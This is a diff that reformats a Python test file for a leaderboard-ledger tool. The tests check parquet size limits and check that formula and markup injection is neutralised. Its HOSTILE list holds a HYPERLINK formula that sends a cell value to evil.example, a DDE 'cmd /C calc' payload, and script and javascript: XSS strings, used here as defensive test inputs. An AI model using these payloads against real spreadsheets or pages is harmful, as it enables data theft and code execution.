@@ -19,17 +19,29 @@ from reliability_fixtures import draft_args, hf_setup, write_ledger
 from checks.io import FORMULA_START
 from checks.testing import run_cli
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
-           "\tTAB", "'=quoted", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-           "[click](javascript:alert(1))", "<javascript:alert(1)>", "a | b `code`"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\tTAB",
+    "'=quoted",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "a | b `code`",
+]
 
 
 @pytest.mark.parametrize("kind", ["rows", "bytes"])
-@reliability(fault="a 30 KB parquet ledger holding 4,000,000 repeated rows (1.8 GB RSS after 40 s), or a few rows "
-                   "whose cells print to more than 64 MiB",
-             must="`checks hf ledger --format parquet` refuses it with the limit in the message (200,000 rows; 64 MiB "
-                  "of text, like CSV and Markdown), exit 2, no traceback; measured: the 4M-row file refused in 2.0 s "
-                  "at a peak RSS of 133 MiB")
+@reliability(
+    fault="a 30 KB parquet ledger holding 4,000,000 repeated rows (1.8 GB RSS after 40 s), or a few rows "
+    "whose cells print to more than 64 MiB",
+    must="`checks hf ledger --format parquet` refuses it with the limit in the message (200,000 rows; 64 MiB "
+    "of text, like CSV and Markdown), exit 2, no traceback; measured: the 4M-row file refused in 2.0 s "
+    "at a peak RSS of 133 MiB",
+)
 def test_parquet_ledgers_are_bounded(tmp_path, kind):
     import pyarrow as pa
     import pyarrow.parquet as pq
@@ -42,8 +54,9 @@ def test_parquet_ledgers_are_bounded(tmp_path, kind):
         table = pa.table({"model": ["org/m"] * 40, "Main": ["x" * 2_000_000] * 40})
     pq.write_table(table, path, compression="zstd")
     start = time.monotonic()
-    res = run_cli(["hf", "ledger", str(path), "--format", "parquet", "--out", str(tmp_path / "ledger.csv")],
-                  cwd=tmp_path)
+    res = run_cli(
+        ["hf", "ledger", str(path), "--format", "parquet", "--out", str(tmp_path / "ledger.csv")], cwd=tmp_path
+    )
     assert time.monotonic() - start < 60
     assert res.exit_code == 2 and "Traceback" not in res.stderr, res.stderr
     limit = "more than 200,000 rows" if kind == "rows" else "more than 67,108,864 bytes"
@@ -66,34 +79,49 @@ def _cells(text: str) -> list[str]:
     return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
 
 
-@reliability(fault="leaderboard cells `=HYPERLINK(...)`, `@SUM(...)`, `+1+1`, a leading tab, and labels holding "
-                   "`<script>`, `<img onerror>`, `[x](javascript:...)` and `<javascript:...>`: the formulas reached "
-                   "ledger.csv and the bundle's source-ledger.csv unchanged, the markup reached review.md raw",
-             must="every CSV cell starting like a formula (=, +, -, @, tab, CR) gets a leading quote, as OWASP "
-                  "recommends (plain numbers such as -0.5 are left), and ledger.csv reads back exactly; review.md "
-                  "shows '<', '>' and '&' as entities and escapes '[', ']', '`', '|' and '\\', so no tag, link or "
-                  "autolink is made")
+@reliability(
+    fault="leaderboard cells `=HYPERLINK(...)`, `@SUM(...)`, `+1+1`, a leading tab, and labels holding "
+    "`<script>`, `<img onerror>`, `[x](javascript:...)` and `<javascript:...>`: the formulas reached "
+    "ledger.csv and the bundle's source-ledger.csv unchanged, the markup reached review.md raw",
+    must="every CSV cell starting like a formula (=, +, -, @, tab, CR) gets a leading quote, as OWASP "
+    "recommends (plain numbers such as -0.5 are left), and ledger.csv reads back exactly; review.md "
+    "shows '<', '>' and '&' as entities and escapes '[', ']', '`', '|' and '\\', so no tag, link or "
+    "autolink is made",
+)
 def test_formulas_and_markup_are_inert_in_the_bundle(tmp_path):
     from hfmigrate_checks.source import ledger
 
     with hf_setup(tmp_path, models=2) as (env, _hub):
         write_ledger(tmp_path / "ledger.csv", models=2, base=50.0)
         rows = ledger.load(tmp_path / "ledger.csv")
-        rows += [ledger.LedgerRow(source_model=text, source_task="Main", source_value=text, source_locator="README.md:L1",
-                                  source_url="https://example.org/board", qualifiers=text) for text in HOSTILE]
-        rows.append(ledger.LedgerRow(source_model="org/negative", source_task="Main", source_value="-0.5",
-                                     source_locator="README.md:L2"))
+        rows += [
+            ledger.LedgerRow(
+                source_model=text,
+                source_task="Main",
+                source_value=text,
+                source_locator="README.md:L1",
+                source_url="https://example.org/board",
+                qualifiers=text,
+            )
+            for text in HOSTILE
+        ]
+        rows.append(
+            ledger.LedgerRow(
+                source_model="org/negative", source_task="Main", source_value="-0.5", source_locator="README.md:L2"
+            )
+        )
         ledger.write(tmp_path / "ledger.csv", rows)
         back = ledger.load(tmp_path / "ledger.csv")  # neutralised on disk, exact when read back
         assert [(r.source_model, r.source_value, r.qualifiers) for r in back] == [
-            (r.source_model, r.source_value, r.qualifiers) for r in rows]
+            (r.source_model, r.source_value, r.qualifiers) for r in rows
+        ]
         res = run_cli(draft_args(tmp_path), env=env, cwd=tmp_path)
         assert res.exit_code in (0, 1), res.stdout + res.stderr
     for name in ("ledger.csv", "bundle/source-ledger.csv"):
         cells = _cells((tmp_path / name).read_text())
         risky = [c for c in cells if c.startswith(FORMULA_START) and not c.startswith("'") and c != "-0.5"]
         assert risky == [], (name, risky)
-        assert "-0.5" in cells and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells, name
+        assert "-0.5" in cells and '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells, name
     review = (tmp_path / "bundle" / "review.md").read_text()
     for markup in ("<script", "<img", "<javascript:"):
         assert markup not in review, markup
@@ -109,4 +137,3 @@ def test_numbers_and_plain_text_are_left_alone():
     for text in HOSTILE:
         assert spreadsheet_value(spreadsheet_safe(text)) == text
     assert csv_text(["a"], [["=1+1"]]) == "a\n=1+1\n"  # only where asked: a file a reviewer opens
-
